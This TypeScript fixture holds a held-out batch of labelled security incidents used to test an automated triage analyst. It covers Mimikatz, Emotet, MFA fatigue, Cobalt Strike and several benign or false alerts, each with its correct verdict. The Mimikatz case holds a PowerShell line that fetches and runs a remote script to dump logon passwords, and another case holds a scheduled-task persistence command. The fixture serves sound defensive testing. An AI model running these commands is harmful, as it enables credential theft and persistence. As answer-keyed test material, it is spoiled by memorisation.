import { readFileSync } from 'node:fs';
import path from 'node:path';
import { entity, makeAlert } from '../support/incidentBuilders';
import { app, at, file, host, incident, ip, mailbox, proc, RU, serviceAccount, user, type LabelledIncident } from './incidentCases';

/**
 * A second batch written after the rules were frozen on the first: its figures are the estimate of how
 * the analyst does on incidents it was not developed against. Labels are the analyst's conclusion from
 * what each case shows, written with the case.
 */
const SG = { countryCode: 'SG', countryName: 'Singapore', city: 'Singapore', asn: 64516 };
const VN = { countryCode: 'VN', countryName: 'Vietnam', city: 'Ho Chi Minh City', asn: 64513 };

const reportedPhish = readFileSync(path.join(__dirname, 'emails', 'P10-password-expiry-lookalike-it.eml'), 'utf8');

export const HELDOUT_INCIDENT_CASES: LabelledIncident[] = [
  {
    id: 'heldout-invoke-mimikatz',
    label: 'TRUE_POSITIVE',
    why: 'Invoke-Mimikatz run in PowerShell on a file server.',
    incident: incident(
      'Suspicious PowerShell activity on CONTOSO-FS-01',
      'HIGH',
      [makeAlert({ displayName: 'Suspicious PowerShell command line', description: 'A PowerShell command line on CONTOSO-FS-01 loaded a credential theft module into memory.', severity: 'HIGH', tactics: ['Execution', 'CredentialAccess'], techniques: ['T1059.001', 'T1003'], timeGenerated: at(5) })],
      [host('CONTOSO-FS-01', 'Windows Server 2019'), user('b.farouk', 'Bilal Farouk', true), proc('powershell.exe', "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.40/im.ps1'); Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'\"", true)],
    ),
  },
  {
    id: 'heldout-mfa-fatigue-forwarding',
    label: 'TRUE_POSITIVE',
    why: 'External forwarding rule created minutes after the user approved an MFA push he did not start.',
    incident: incident(
      'Suspicious inbox forwarding rule for g.lopez@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious inbox forwarding', description: 'g.lopez@contoso.example created or updated an inbox rule that forwards all incoming email to the external address glopez.fin@gmail.com.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Collection'], techniques: ['T1114.003'], timeGenerated: at(12) })],
      [user('g.lopez', 'Gabriel Lopez'), mailbox('g.lopez@contoso.example', 'Gabriel Lopez'), ip('203.0.113.99', VN), app('Office 365 Exchange Online', 20893)],
      { comments: ['Gabriel got about 30 MFA prompts last night and approved one to make them stop; he did not start any sign-in. The rule was created from Vietnam four minutes later.'] },
    ),
  },
  {
    id: 'heldout-schtask-public-folder',
    label: 'TRUE_POSITIVE',
    why: 'Logon scheduled task with a OneDrive-like name running an executable from C:\\Users\\Public.',
    incident: incident(
      'Suspicious scheduled task created on CONTOSO-WS-0731',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious Task Scheduler activity', description: 'A scheduled task was created on CONTOSO-WS-0731 that runs a binary from a public user folder at every logon.', severity: 'MEDIUM', tactics: ['Persistence'], techniques: ['T1053.005'], timeGenerated: at(2) })],
      [host('CONTOSO-WS-0731'), user('a.berg', 'Anna Berg', true), proc('schtasks.exe', 'schtasks.exe /create /tn "OneDriveUpdate" /tr "C:\\Users\\Public\\upd.exe" /sc onlogon /rl highest /f'), file('C:\\Users\\Public', 'upd.exe')],
    ),
  },
  {
    id: 'heldout-emotet-av',
    label: 'TRUE_POSITIVE',
    why: 'Antivirus found Emotet on a workstation (quarantined, but the host was infected).',
    incident: incident(
      "'Emotet' malware was detected on CONTOSO-LT-0190",
      'MEDIUM',
      [makeAlert({ displayName: "'Emotet' malware was prevented", description: 'Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines. Trojan:Win32/Emotet was detected in C:\\Users\\s.chen\\AppData\\Local\\Temp\\doc_4471.dll and quarantined.', severity: 'MEDIUM', tactics: ['Execution'], techniques: ['T1204.002'], timeGenerated: at(4) })],
      [host('CONTOSO-LT-0190'), user('s.chen', 'Sofia Chen', true), file('C:\\Users\\s.chen\\AppData\\Local\\Temp', 'doc_4471.dll'), entity('Malware', 'Trojan:Win32/Emotet', { malwareName: 'Trojan:Win32/Emotet', category: 'Trojan' })],
    ),
  },
  {
    id: 'heldout-user-reported-phish',
    label: 'TRUE_POSITIVE',
    why: 'User reported a password-expiry phish from a company-name lookalike; the message is attached.',
    incident: incident(
      'Email reported by user as malware or phish',
      'INFORMATIONAL',
      [makeAlert({ displayName: 'Email reported by user as malware or phish', description: 'e.wilson@contoso.example reported a message as phishing.', productName: 'Microsoft Defender for Office 365', severity: 'INFORMATIONAL', tactics: ['InitialAccess'], techniques: ['T1566'], timeGenerated: at(30) })],
      [user('e.wilson', 'Ethan Wilson'), mailbox('e.wilson@contoso.example', 'Ethan Wilson'), entity('SubmissionMail', 'Action required: your password expires today', { submissionId: 'a1b2', recipient: 'e.wilson@contoso.example', sender: 'it-support@contoso-helpdesk.com', subject: 'Action required: your password expires today', reportType: 'Phish' })],
    ),
    rawEmail: reportedPhish,
  },
  {
    id: 'heldout-intune-remediation',
    label: 'BENIGN_POSITIVE',
    why: "Encoded PowerShell is the endpoint team's signed Intune remediation script.",
    incident: incident(
      'Suspicious PowerShell command line on CONTOSO-WS-1180',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious PowerShell command line', description: 'A suspicious PowerShell command line with an encoded command was run on CONTOSO-WS-1180 by the SYSTEM account.', severity: 'MEDIUM', tactics: ['Execution'], techniques: ['T1059.001'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-1180'), proc('powershell.exe', `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${Buffer.from('Remove-Item "$env:APPDATA\\Microsoft\\Teams\\Cache\\*" -Recurse -Force', 'utf16le').toString('base64')}`)],
      { comments: ["This is the Intune remediation script 'Clear-TeamsCache' that the endpoint team deploys to every laptop; the decoded command only clears the Teams cache and the script hash matches the signed copy in their repository."] },
    ),
  },
  {
    id: 'heldout-travel-singapore-office',
    label: 'BENIGN_POSITIVE',
    why: 'The user is working from the Singapore office this week; MFA from her registered phone.',
    incident: incident(
      'Impossible travel activity involving p.iyer@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Atypical travel', description: 'Sign-in from an atypical location based on the user\'s recent sign-ins: p.iyer@contoso.example signed in from Seattle and 65 minutes later from Singapore, Singapore.', productName: 'Azure Active Directory Identity Protection', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(20) })],
      [user('p.iyer', 'Priya Iyer'), ip('192.0.2.120', SG)],
      { comments: ['Priya is at the Singapore office this week (her manager approved the trip). The Seattle sign-in was her Outlook client on the desktop she left running; MFA for Singapore came from her registered phone.'] },
    ),
  },
  {
    id: 'heldout-nightly-backup-download',
    label: 'BENIGN_POSITIVE',
    why: 'Mass download is the nightly SharePoint backup job of the backup service account.',
    incident: incident(
      'Mass download from SharePoint site Finance by svc_backup@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Mass download by a single user', description: 'svc_backup@contoso.example downloaded 15880 files from the Finance site in 40 minutes, far above their baseline.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Collection'], techniques: ['T1530'], timeGenerated: at(1) })],
      [user('svc_backup', 'Backup Service'), ip('10.30.2.15'), app('Microsoft SharePoint Online', 20892)],
      { comments: ['svc_backup runs the nightly SharePoint backup with Veeam from the backup server 10.30.2.15; the volume matches previous nights, the baseline was reset after the site migration.'] },
    ),
  },
  {
    id: 'heldout-av-signature-fp',
    label: 'FALSE_POSITIVE',
    why: 'The vendor confirmed the detection of the company\'s own signed installer as a signature false positive.',
    incident: incident(
      "'Wacatac' malware was detected on CONTOSO-WS-0020",
      'MEDIUM',
      [makeAlert({ displayName: "'Wacatac' malware was prevented", description: 'Trojan:Win32/Wacatac.B!ml was detected in C:\\Deploy\\ContosoSetup\\setup.exe and quarantined.', severity: 'MEDIUM', tactics: ['Execution'], techniques: ['T1204.002'], timeGenerated: at(3) })],
      [host('CONTOSO-WS-0020'), file('C:\\Deploy\\ContosoSetup', 'setup.exe'), entity('Malware', 'Trojan:Win32/Wacatac.B!ml', { malwareName: 'Trojan:Win32/Wacatac.B!ml', category: 'Trojan' })],
      { comments: ['setup.exe is our own signed installer built by the release pipeline. Microsoft confirmed the machine-learning detection as a false positive and fixed it in security intelligence update 1.413.221.0; restored the file.'] },
    ),
  },
  {
    id: 'heldout-printer-old-password',
    label: 'BENIGN_POSITIVE',
    why: 'The failed logons are a scan-to-email printer still using the rotated password of its service account.',
    incident: incident(
      'Multiple failed sign-ins for svc_scan',
      'MEDIUM',
      [makeAlert({ displayName: 'Brute force attack against Azure AD', description: 'Identifies 612 failed sign-ins (error 50126) for svc_scan@contoso.example from 10.40.7.22 within 2 hours, which may indicate a brute force attack.', productName: 'Azure Sentinel', tactics: ['CredentialAccess'], techniques: ['T1110'], timeGenerated: at(0) })],
      [user('svc_scan', 'Scan to Email'), ip('10.40.7.22')],
      { comments: ['10.40.7.22 is the 3rd-floor multifunction printer. Its scan-to-email profile still used the old svc_scan password after Monday\'s rotation; facilities updated the credential and the failures stopped.'] },
    ),
  },
  {
    id: 'heldout-zscaler-not-tor',
    label: 'FALSE_POSITIVE',
    why: 'The "Tor" address is the company Zscaler egress, wrongly listed in the threat feed.',
    incident: incident(
      'Sign-in from anonymous IP address involving m.schmidt@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Anonymous IP address', description: 'Sign-in from an anonymous IP address (e.g. Tor browser, anonymizer VPNs) by m.schmidt@contoso.example from 198.51.100.36.', productName: 'Azure Active Directory Identity Protection', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(9) })],
      [user('m.schmidt', 'Mateo Schmidt'), ip('198.51.100.36')],
      { comments: ['198.51.100.36 is one of our Zscaler egress nodes; the feed lists it as a Tor exit by mistake, it is not Tor. Asked the TI vendor to correct the entry.'] },
    ),
  },
  {
    id: 'heldout-cobalt-strike-beacon',
    label: 'TRUE_POSITIVE',
    why: 'Defender identified a Cobalt Strike beacon in rundll32 calling out every 60 seconds.',
    incident: incident(
      'Cobalt Strike command and control detected on CONTOSO-APP-09',
      'HIGH',
      [
        makeAlert({ displayName: "'CobaltStrike' malware was detected during lateral movement", description: 'A Cobalt Strike beacon was found in the memory of rundll32.exe on CONTOSO-APP-09.', severity: 'HIGH', tactics: ['Execution', 'CommandAndControl'], techniques: ['T1218.011', 'T1071.001'], timeGenerated: at(2) }),
        makeAlert({ displayName: 'Suspicious network connection to a command and control server', description: 'rundll32.exe on CONTOSO-APP-09 connected to cdn-static-assets.example (203.0.113.66) every 60 seconds.', severity: 'HIGH', tactics: ['CommandAndControl'], techniques: ['T1071.001'], timeGenerated: at(8) }),
      ],
      [host('CONTOSO-APP-09', 'Windows Server 2022'), proc('rundll32.exe', 'rundll32.exe'), ip('203.0.113.66', RU), entity('Malware', 'Backdoor:Win64/CobaltStrike', { malwareName: 'Backdoor:Win64/CobaltStrike', category: 'Backdoor' }), serviceAccount('svc_app09')],
    ),
  },
];
